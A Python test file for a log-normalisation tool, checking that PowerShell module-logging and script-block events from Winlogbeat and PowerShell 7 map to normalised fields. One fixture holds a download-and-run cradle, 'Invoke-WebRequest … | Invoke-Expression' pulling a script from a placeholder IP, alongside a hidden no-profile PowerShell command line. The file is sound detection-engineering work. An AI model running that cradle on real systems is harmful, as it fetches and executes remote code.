"""PowerShell events mapped as Winlogbeat's powershell processing lays them out (events written here)."""

from __future__ import annotations

from pathlib import Path

import orjson
from endpoint_support import failed, run

CONTEXT_INFO = (
    "        Severity = Informational\r\n"
    "        Host Name = ConsoleHost\r\n"
    "        Host Version = 5.1.19041.3803\r\n"
    "        Host ID = 6a1c7e2d-0b3f-4d5e-8f9a-1b2c3d4e5f60\r\n"
    "        Host Application = C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden\r\n"
    "        Engine Version = 5.1.19041.3803\r\n"
    "        Runspace ID = 0e1f2a3b-4c5d-6e7f-8091-a2b3c4d5e6f7\r\n"
    "        Pipeline ID = 12\r\n"
    "        Command Name = Invoke-WebRequest\r\n"
    "        Command Type = Cmdlet\r\n"
    "        Script Name = \r\n"
    "        Command Path = \r\n"
    "        Sequence Number = 41\r\n"
    "        User = CORP\\jdoe\r\n"
    "        Connected User = CORP\\helpdesk\r\n"
    "        Shell ID = Microsoft.PowerShell\r\n"
)


def winlogbeat_4103() -> dict:
    """A 4103 (module logging) record as Winlogbeat ships it."""
    return {
        "@timestamp": "2024-05-14T08:31:12.450Z",
        "event": {"code": "4103", "kind": "event", "provider": "Microsoft-Windows-PowerShell"},
        "host": {"name": "WS042.corp.example.com"},
        "log": {"level": "information"},
        "winlog": {
            "channel": "Microsoft-Windows-PowerShell/Operational",
            "provider_name": "Microsoft-Windows-PowerShell",
            "provider_guid": "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
            "event_id": "4103",
            "record_id": 5120,
            "computer_name": "WS042.corp.example.com",
            "task": "Executing Pipeline",
            "opcode": "To be used when operation is just executing a method",
            "process": {"pid": 5340, "thread": {"id": 6120}},
            "user": {"identifier": "S-1-5-21-1-2-3-1013"},
            "event_data": {
                "ContextInfo": CONTEXT_INFO,
                "Payload": 'CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"\r\n',
            },
        },
    }


def test_module_logging_context_ids_are_mapped(tmp_path: Path) -> None:
    # 4103 spells its ids "Host ID", "Runspace ID", "Pipeline ID", "Shell ID" (classic events: HostId …).
    path = tmp_path / "winlogbeat.ndjson"
    path.write_bytes(orjson.dumps(winlogbeat_4103()) + b"\n")
    events, _ = run([path], fmt="winlog-json")
    assert len(events) == 1 and not failed(events[0])
    event = events[0]
    assert event["process"]["entity_id"] == "6a1c7e2d-0b3f-4d5e-8f9a-1b2c3d4e5f60"
    assert event["powershell"]["runspace_id"] == "0e1f2a3b-4c5d-6e7f-8091-a2b3c4d5e6f7"
    assert event["powershell"]["pipeline_id"] == "12"
    assert event["powershell"]["id"] == "Microsoft.PowerShell"
    assert event["powershell"]["connected_user"] == {"domain": "CORP", "name": "helpdesk"}
    assert event["user"] == {"domain": "CORP", "name": "jdoe"}
    assert event["event"]["sequence"] == 41


def test_powershell_7_script_block_is_mapped_like_windows_powershell(tmp_path: Path) -> None:
    # pwsh 7 logs to PowerShellCore/Operational from provider PowerShellCore; Sigma's ps_script covers it.
    xml = (
        '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
        '<Provider Name="PowerShellCore" Guid="{f90714a8-5509-434a-bf6d-b1624c8a19a2}"/>'
        "<EventID>4104</EventID><Version>1</Version><Level>5</Level><Task>2</Task><Opcode>15</Opcode>"
        '<Keywords>0x0</Keywords><TimeCreated SystemTime="2024-05-14T11:02:45.8812004Z"/>'
        '<EventRecordID>731</EventRecordID><Correlation ActivityID="{9d1e0b5c-a6f7-0001-62c4-1f9df7a6da01}"/>'
        '<Execution ProcessID="7712" ThreadID="8840"/><Channel>PowerShellCore/Operational</Channel>'
        '<Computer>WS042.corp.example.com</Computer><Security UserID="S-1-5-21-1-2-3-1013"/></System>'
        '<EventData><Data Name="MessageNumber">1</Data><Data Name="MessageTotal">1</Data>'
        '<Data Name="ScriptBlockText">Invoke-WebRequest -Uri http://198.51.100.7/p.ps1 | Invoke-Expression</Data>'
        '<Data Name="ScriptBlockId">5a0e8c1d-2b3f-4e6a-9c7d-8e9f0a1b2c3d</Data>'
        '<Data Name="Path">C:\\Users\\jdoe\\dl.ps1</Data></EventData></Event>'
    )
    path = tmp_path / "pwsh.xml"
    path.write_text(xml + "\r\n", encoding="utf-8")
    events, _ = run([path], fmt="winlog-xml")
    assert len(events) == 1 and not failed(events[0])
    powershell = events[0]["powershell"]
    assert powershell["file"]["script_block_text"].startswith("Invoke-WebRequest -Uri")
    assert powershell["file"]["script_block_id"] == "5a0e8c1d-2b3f-4e6a-9c7d-8e9f0a1b2c3d"
    assert (powershell["sequence"], powershell["total"]) == (1, 1)
    assert events[0]["file"]["name"] == "dl.ps1"
